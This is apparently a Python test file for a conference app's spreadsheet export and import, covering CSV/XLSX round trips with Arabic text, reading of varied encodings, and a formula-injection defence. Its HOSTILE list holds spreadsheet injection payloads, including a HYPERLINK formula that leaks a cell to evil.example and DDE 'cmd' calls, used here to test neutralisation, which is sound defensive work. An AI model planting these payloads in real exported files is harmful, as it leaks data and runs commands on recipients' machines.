"""The spreadsheet writers: cells no spreadsheet runs, Arabic round trips (CSV, XLSX)."""

import csv
import io

import openpyxl
import pytest

from conference import spreadsheets
from conference.spreadsheets import neutralise

ARABIC_NAME = "مُحَمَّد الأَحْمَد"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign
    "＋1",
    "－1",
    "＠SUM(A1)",
]


def read_csv(data):
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark first, for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_xlsx(data):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return workbook.active


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_formula_triggers_with_an_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Ada", ARABIC_NAME, "", "1-2", "a=b", "ada@example.org", 42, None]
)
def test_neutralise_leaves_ordinary_values_alone(value):
    assert neutralise(value) == value


def test_csv_round_trip_keeps_arabic_quotes_and_line_breaks_and_neutralises_formulas():
    rows = [
        [1, ARABIC_NAME, 'Say "hi", then\r\nleave'],
        *[[n, value, None] for n, value in enumerate(HOSTILE, start=2)],
    ]

    data = b"".join(chunk for chunk, _count in spreadsheets.csv_chunks(["#", "الاسم"], rows))

    header, first, *hostile = read_csv(data)
    assert header == ["#", "الاسم"]
    assert first == ["1", ARABIC_NAME, 'Say "hi", then\r\nleave']
    assert [row[1] for row in hostile] == ["'" + value for value in HOSTILE]
    assert b"\r\n" in data
    assert b"\n\n" not in data


def test_csv_chunks_count_the_rows_they_carry():
    rows = ([n, "x" * 100] for n in range(5000))

    pieces = list(spreadsheets.csv_chunks(["n", "text"], rows, chunk_size=16 * 1024))

    assert len(pieces) > 10
    assert sum(count for _data, count in pieces) == 5000
    assert all(len(data) < 17 * 1024 for data, _count in pieces)


def test_xlsx_round_trip_keeps_arabic_and_writes_formulas_as_text_cells_unchanged(tmp_path):
    path = tmp_path / "out.xlsx"
    rows = [[1, ARABIC_NAME], *[[n, value] for n, value in enumerate(HOSTILE, start=2)]]

    with path.open("wb") as handle:
        count = spreadsheets.write_xlsx(
            handle, ["#", "الاسم"], rows, title="الحضور", right_to_left=True
        )

    sheet = openpyxl.load_workbook(path).active
    assert count == len(rows)
    assert sheet.title == "الحضور"
    assert sheet.sheet_view.rightToLeft is True
    assert [cell.value for cell in sheet[2]] == [1, ARABIC_NAME]
    cells = [sheet.cell(row=n + 3, column=2) for n in range(len(HOSTILE))]
    # (XML readers turn a lone carriage return into a line feed.)
    assert [cell.value for cell in cells] == [v.replace("\r", "\n") for v in HOSTILE]
    assert {cell.data_type for cell in cells} == {"s"}  # never "f" (formula)
    assert all(cell.quotePrefix for cell in cells)  # editing the cell keeps it text


def test_xlsx_writes_strings_even_when_they_look_like_errors_or_hold_control_characters():
    buffer = io.BytesIO()

    spreadsheets.write_xlsx(buffer, ["a", "b"], [["#N/A", "bell\x07 and tab\x0b"]])

    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert [(c.value, c.data_type) for c in sheet[2]] == [("#N/A", "s"), ("bell and tab", "s")]


# --- Reading -------------------------------------------------------------------------------

ROWS = [["email", "full_name"], ["ada@example.org", "Ada Lovelacé"], ["o@example.org", "Zoë"]]


def _encoded(encoding, separator):
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=separator, lineterminator="\r\n").writerows(ROWS)
    return buffer.getvalue().encode(encoding)


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize(
    ("encoding", "read_as"),
    [("utf-8", "utf-8"), ("utf-8-sig", "utf-8-sig"), ("utf-16", "utf-16"), ("cp1252", "cp1252")],
)
def test_read_table_reads_every_encoding_and_separator(encoding, read_as, separator):
    table = spreadsheets.read_table(_encoded(encoding, separator))

    assert (table.kind, table.encoding, table.separator) == ("csv", read_as, separator)
    assert table.header == ROWS[0]
    assert table.rows == [(2, ROWS[1]), (3, ROWS[2])]


def test_read_table_reads_utf16_without_a_byte_order_mark():
    table = spreadsheets.read_table(
        "email\tfull_name\r\na@example.org\tعمر\r\n".encode("utf-16-le")
    )

    assert table.rows == [(2, ["a@example.org", "عمر"])]


def test_read_table_reads_xlsx_with_date_times_and_numbers_as_text():
    buffer = io.BytesIO()
    when = spreadsheets.datetime(2026, 3, 18, 9, 30)
    spreadsheets.write_xlsx(buffer, ["email", "at", "phone"], [["a@example.org", when, 3135550100]])

    table = spreadsheets.read_table(buffer.getvalue())

    assert table.kind == "xlsx"
    assert table.rows == [(2, ["a@example.org", when, "3135550100"])]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "empty"),
        (b"  \r\n", "empty"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100), "xls"),
        (b"%PDF-1.7", "pdf"),
        (b"\x89PNG\r\n", "image"),
        (b"PK\x03\x04garbage", "broken_xlsx"),
        (b"a,b\n\x81\x8d\x8f\n", "encoding"),
        (b"\x01\x02\x03binary\x00data", "binary"),
    ],
)
def test_read_table_says_why_it_cannot_read_a_file(data, reason):
    with pytest.raises(spreadsheets.UnreadableFile) as refused:
        spreadsheets.read_table(data)

    assert refused.value.reason == reason


def test_read_table_refuses_too_big_and_too_many_rows():
    with pytest.raises(spreadsheets.UnreadableFile, match="too_big"):
        spreadsheets.read_table(b"a,b\n" * 100, max_bytes=10)
    with pytest.raises(spreadsheets.UnreadableFile, match="too_many_rows"):
        spreadsheets.read_table(b"a,b\n1,2\n3,4\n", max_rows=1)


@pytest.mark.parametrize("value", HOSTILE)
def test_restore_undoes_neutralise(value):
    assert spreadsheets.restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["'O'Brien", "'", "'plain", "Ada", None, 7])
def test_restore_keeps_an_apostrophe_the_export_did_not_add(value):
    assert spreadsheets.restore(value) == value


def test_date_times_are_minutes_in_csv():
    when = spreadsheets.datetime(2026, 3, 18, 9, 30, 15)

    data = b"".join(chunk for chunk, _count in spreadsheets.csv_chunks(["at"], [[when]]))

    assert read_csv(data) == [["at"], ["2026-03-18 09:30"]]
